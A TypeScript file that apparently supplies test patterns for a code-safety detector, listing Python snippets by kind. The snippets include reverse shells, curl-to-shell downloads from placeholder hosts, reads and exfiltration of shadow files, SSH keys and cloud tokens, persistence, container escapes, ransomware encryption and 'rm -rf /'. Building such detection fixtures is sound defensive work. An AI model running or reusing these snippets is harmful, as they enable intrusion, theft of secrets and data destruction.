/** Hostile patterns in Python, by kind; as harmless as those in bash. */
export const python: Readonly<Record<string, ReadonlyArray<string>>> = {
  "reverse-shell": [
    "import os, socket, pty\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nos.close(0)\nos.dup(s.fileno())\npty.spawn('/bin/sh')",
    "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('203.0.113.9',4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(['/bin/sh','-i'])",
    "import socket as k, os as o, pty as p\nx=k.socket()\nx.connect(('203.0.113.9',1))\n[o.dup2(x.fileno(),f) for f in (0,1,2)]\np.spawn('/bin/bash')",
    "from socket import socket as S\nfrom os import dup2 as d\nc=S()\nc.connect(('203.0.113.9',1))\nd(c.fileno(),0)",
    "s=__import__('soc'+'ket').socket()\ns.connect(('203.0.113.9',1))\n__import__('os').dup2(s.fileno(),0)",
    "import socket,os\ns=socket.create_connection(('203.0.113.9',1))\ngetattr(os,'du'+'p2')(s.fileno(),1)",
    "import socket,subprocess\ns=socket.socket()\ns.connect(('203.0.113.9',1))\nwhile True:\n  c=s.recv(1024).decode()\n  s.send(subprocess.check_output(c,shell=True))",
    "import importlib\ns=importlib.import_module('socket').socket()\ns.connect(('203.0.113.9',1))\nimportlib.import_module('os').popen(s.recv(99).decode())",
    "import socket,subprocess\ns=socket.socket()\ns.connect(('203.0.113.9',1))\nsubprocess.Popen(['/bin/bash'],stdin=s,stdout=s)"
  ],
  "fork-bomb": [
    "import os\nwhile True:\n  os.fork()",
    "import os\nwhile 1: os.fork()",
    "import os as o\nf=o.fork\nwhile True:\n  f()",
    "import os\ndef b():\n  os.fork()\n  b()\nb()",
    "import subprocess,sys\nwhile True:\n  subprocess.Popen([sys.executable,__file__])",
    "import os\nwhile True:\n  getattr(os,'fo'+'rk')()",
    "from multiprocessing import Process\nwhile True:\n  Process(target=print).start()",
    "import itertools,os\nfor _ in itertools.count():\n  os.fork()"
  ],
  miner: [
    "POOL='stratum+tcp://pool.invalid:3333'",
    "p='stra'+'tum+ssl://pool.invalid'",
    "import base64\nu=base64.b64decode('c3RyYXR1bSt0Y3A6Ly9wb29sLmludmFsaWQ=').decode()",
    "import socket\ns=socket.create_connection(('pool.invalid',3333))\ns.send(b'{\"method\":\"mining.subscribe\"}')",
    "import urllib.request\nurllib.request.urlretrieve('https://host.invalid/xmrig.tar.gz','x')",
    "u=''.join(['stratum','+tcp://','pool.invalid'])"
  ],
  "cloud-metadata": [
    "import requests\nrequests.get('http://169.254.169.254/latest/meta-data/')",
    "import urllib.request as u\nu.urlopen('http://metadata.google.internal/x')",
    "import requests\nh='.'.join(['169','254','169','254'])\nrequests.get('http://'+h+'/latest')",
    "import requests\nip='169.254.169.254'\nrequests.get(f'http://{ip}/latest')",
    "from urllib.request import urlopen\nurlopen('http://%s/latest' % '169.254.169.254')",
    "import http.client\nc=http.client.HTTPConnection('169.254.169.254')",
    "import requests as r\ns=r.Session()\ns.get('http://{}/x'.format('169.254.169.254'))",
    "import httpx\nhttpx.get('http://[fd00:ec2::254]/latest')"
  ],
  "credential-theft": [
    "print(open('/etc/shadow').read())",
    "import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()",
    "p='/etc/'+'sha'+'dow'\nopen(p)",
    "from pathlib import Path\nPath('/root/.aws/credentials').read_text()",
    "import requests,os\nrequests.post('http://host.invalid',json=dict(os.environ))",
    "f=open\nf('/var/run/secrets/kubernetes.io/serviceaccount/token')",
    "import shutil\nshutil.copy('/home/u/.config/google-chrome/Default/Login Data','x')",
    "open('wodahs/cte/'[::-1])",
    "import os\nos.open('/proc/1/environ',0)",
    "import builtins\ngetattr(builtins,'open')('/etc/shadow')",
    "import requests\nd=open('/home/u/.docker/config.json').read()\nrequests.post('http://host.invalid',data=d)"
  ],
  persistence: [
    "open('/etc/cron.d/x','w').write('* * * * * root /tmp/x')",
    "open('/root/.ssh/authorized_keys','a').write('ssh-rsa AAAA')",
    "with open('/etc/ld.so.preload','w') as f:\n  f.write('/tmp/x.so')",
    "import os\nos.system(\"echo '* * * * * /tmp/x' | crontab -\")",
    "open('/home/u/.bashrc','a').write('x')",
    "d='/etc/systemd/system'\nopen(d+'/x.service','w')"
  ],
  "obfuscated-execution": [
    "import pickle, base64\npickle.loads(base64.b64decode('Y29zCnN5c3RlbQooUydpZCcKdFIu'))",
    "import pickle, requests\npickle.loads(requests.get('https://host.invalid/p').content)",
    "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
    "import base64 as b\ne=exec\ne(b.b64decode(x).decode())",
    "from base64 import b64decode as d\neval(compile(d(x),'x','exec'))",
    "exec(bytes.fromhex('7072696e74283129'))",
    "exec(''.join(chr(c) for c in [112,114,105,110,116,40,49,41]))",
    "exec(''.join(map(chr,[112,114,105,110,116])))",
    "import zlib,base64\nexec(zlib.decompress(base64.b64decode(x)))",
    "import marshal\nexec(marshal.loads(x))",
    "__builtins__.__dict__['ex'+'ec'](__import__('base64').b64decode(x))",
    "getattr(__import__('builtins'),'exec')(__import__('codecs').decode(x,'rot13'))",
    "globals()['__builtins__'].exec(__import__('base64').b64decode(x))",
    "import os,base64\nos.system(base64.b64decode('bHM=').decode())",
    "exec(''.join(chr(ord(c)^42) for c in x))",
    "f=lambda s:__import__('base64').b64decode(s)\nexec(__import__('base64').b85decode(x))",
    "def d(s):\n  import base64\n  return base64.b64decode(s)\nexec(d(x))"
  ],
  "download-and-run": [
    "import os\nfd = os.memfd_create('a')\nos.write(fd, program)\nos.execve(f'/proc/self/fd/{fd}', ['a'], {})",
    "import os\nfd = os.memfd_create('a')\nos.execve(fd, ['a'], {})",
    "import requests\nexec(requests.get('http://host.invalid/x').text)",
    "import urllib.request\nexec(urllib.request.urlopen('http://host.invalid').read())",
    "from urllib.request import urlopen as u\neval(u('http://host.invalid').read().decode())",
    "import os\nos.system('curl http://host.invalid/x | sh')",
    "import subprocess\nsubprocess.run('wget -qO- http://host.invalid/x | bash',shell=True)",
    "import subprocess\nsubprocess.run(['bash','-c','curl http://host.invalid | sh'])",
    "import urllib.request,os\nurllib.request.urlretrieve('http://host.invalid/x','/tmp/x')\nos.chmod('/tmp/x',0o755)"
  ],
  shellcode: [
    "import ctypes,mmap\nm=mmap.mmap(-1,99,prot=7)\nf=ctypes.CFUNCTYPE(ctypes.c_int)(1)",
    "import ctypes\nctypes.CDLL(None).mprotect(1,2,7)\nctypes.memmove(1,b'',0)"
  ],
  "container-escape": [
    "open('/proc/sys/kernel/core_pattern','w').write('|/tmp/x')",
    "open('/sys/fs/cgroup/rdma/release_agent','w')",
    "import os\nos.listdir('/proc/1/root/')",
    "import socket\ns=socket.socket(socket.AF_UNIX)\ns.connect('/var/run/docker.sock')",
    "import ctypes,os\nl=ctypes.CDLL(None)\nl.setns(os.open('/proc/1/ns/mnt',0),0)",
    "import os\nos.chroot('/proc/1/root')"
  ],
  ransom: [
    "import os\nfrom cryptography.fernet import Fernet\nk=Fernet(Fernet.generate_key())\nfor r,d,f in os.walk('/home'):\n  for n in f:\n    b=k.encrypt(open(n,'rb').read())\n    os.remove(n)",
    "from Crypto.Cipher import AES\nimport glob,os\nc=AES.new(k,AES.MODE_CBC)\nfor f in glob.glob('x/**'):\n  os.rename(f,f+'.x')",
    "open('README.txt','w').write('All your files have been encrypted! Send 0.1 BTC')",
    "import subprocess\nsubprocess.run('vssadmin delete shadows /all')"
  ],
  destruction: [
    "import shutil\nshutil.rmtree('/')",
    "import os\nos.system('rm -rf /')",
    "from shutil import rmtree as r\nr('/home')"
  ]
}
